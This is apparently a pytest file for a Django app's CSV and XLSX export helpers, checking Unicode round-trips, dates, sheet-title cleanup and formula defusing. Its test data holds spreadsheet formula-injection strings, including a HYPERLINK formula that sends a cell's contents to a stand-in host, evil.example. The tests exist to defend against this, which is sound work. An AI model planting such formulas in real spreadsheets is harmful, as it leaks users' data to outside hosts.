import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from exchange.exports import clean_sheet_title, rows_to_csv, rows_to_xlsx

HEADER = ["Name", "Latin name", "City", "Born", "Places"]
ROWS = [
    ["김앨리스", "Kim Alice", "광주시", date(2009, 3, 14), 5],
    ["王小明", "Wang Xiaoming", "淄博市", date(2008, 11, 2), 3],
    ["Nguyễn Thị Hương", "Nguyen Thi Huong", "Huế", date(2010, 1, 30), 4],
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "harmless = text",
]
DEFUSED = [
    '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "'+1+1",
    "'-2+3",
    "'@SUM(A1:A2)",
    "'\t=1+1",
    "'\r=1+1",
    "harmless = text",
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_rows_to_csv_round_trips_hangul_chinese_vietnamese():
    data = rows_to_csv(HEADER, ROWS)

    assert read_csv(data) == [
        ["Name", "Latin name", "City", "Born", "Places"],
        ["김앨리스", "Kim Alice", "광주시", "2009-03-14", "5"],
        ["王小明", "Wang Xiaoming", "淄博市", "2008-11-02", "3"],
        ["Nguyễn Thị Hương", "Nguyen Thi Huong", "Huế", "2010-01-30", "4"],
    ]


def test_rows_to_csv_starts_with_bom_and_ends_lines_with_crlf():
    data = rows_to_csv(["a", "b"], [["김", None]])

    assert data == "\ufeffa,b\r\n김,\r\n".encode()


def test_rows_to_csv_defuses_formulas():
    data = rows_to_csv(["Answer"], [[value] for value in HOSTILE])

    assert [row[0] for row in read_csv(data)[1:]] == DEFUSED


def test_rows_to_csv_leaves_numbers_alone():
    data = rows_to_csv(["n"], [[-5], [Decimal("-1.50")]])

    assert read_csv(data) == [["n"], ["-5"], ["-1.50"]]


def test_rows_to_csv_accepts_lazy_translations_in_header():
    data = rows_to_csv([gettext_lazy("Title")], [])

    assert read_csv(data) == [["Title"]]


def test_rows_to_xlsx_round_trips_scripts_and_keeps_types():
    sheet = read_xlsx(rows_to_xlsx(HEADER, ROWS, sheet_title="Applicants"))

    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Name", "Latin name", "City", "Born", "Places"],
        ["김앨리스", "Kim Alice", "광주시", datetime(2009, 3, 14), 5],
        ["王小明", "Wang Xiaoming", "淄博市", datetime(2008, 11, 2), 3],
        ["Nguyễn Thị Hương", "Nguyen Thi Huong", "Huế", datetime(2010, 1, 30), 4],
    ]
    assert sheet["D2"].is_date
    assert sheet["E2"].data_type == "n"


def test_rows_to_xlsx_header_bold_and_frozen():
    sheet = read_xlsx(rows_to_xlsx(HEADER, ROWS, sheet_title="Applicants"))

    assert [cell.font.b for cell in sheet[1]] == [True] * 5
    assert sheet["A2"].font.b is False
    assert sheet.freeze_panes == "A2"


def test_rows_to_xlsx_defuses_formulas_and_stores_them_as_text():
    sheet = read_xlsx(rows_to_xlsx(["Answer"], [[value] for value in HOSTILE], sheet_title="x"))

    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # openpyxl writes with lxml (installed with pikepdf), which escapes a carriage return, so
    # every value comes back exactly (the standard library's writer let XML turn it into \n).
    assert [cell.value for cell in cells] == DEFUSED
    assert {cell.data_type for cell in cells} == {"s"}


def test_rows_to_xlsx_aware_datetime_shown_in_local_time():
    # TIME_ZONE is Asia/Seoul (+09:00); Excel can't hold a time zone.
    submitted = datetime(2026, 11, 23, 3, 30, tzinfo=UTC)

    sheet = read_xlsx(rows_to_xlsx(["Submitted"], [[submitted]], sheet_title="x"))

    assert sheet["A2"].value == datetime(2026, 11, 23, 12, 30)


def test_rows_to_xlsx_drops_control_characters_excel_refuses():
    sheet = read_xlsx(rows_to_xlsx(["Name"], [["Kim\x00\x07 Alice\x01"]], sheet_title="x"))

    assert sheet["A2"].value == "Kim Alice"


def test_rows_to_xlsx_column_widths_fit_wide_characters():
    sheet = read_xlsx(
        rows_to_xlsx(["Name", "Note"], [["김앨리스", "x" * 500]], sheet_title="Applicants")
    )

    # "김앨리스" is four wide characters: eight columns, plus two of margin.
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (10, 60)


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Applicants", "Applicants"),
        ("Gwangju/Zibo: [2026] *final?*", "GwangjuZibo 2026 final"),
        (
            "광주시–淄博市 청소년 교류 프로그램 참가 신청자 명단 2026년",
            "광주시–淄博市 청소년 교류 프로그램 참가 신청자 명단 2",
        ),
        ("'quoted'", "quoted"),
        ("[]:*?/\\", "Sheet"),
    ],
)
def test_clean_sheet_title_sanitises(title, expected):
    assert clean_sheet_title(title) == expected


def test_rows_to_xlsx_uses_sanitised_sheet_title():
    data = rows_to_xlsx(["a"], [], sheet_title="Programs 2026/2027: Gwangju ↔ Zibo, Huế")

    assert load_workbook(io.BytesIO(data)).sheetnames == ["Programs 20262027 Gwangju ↔ Zib"]
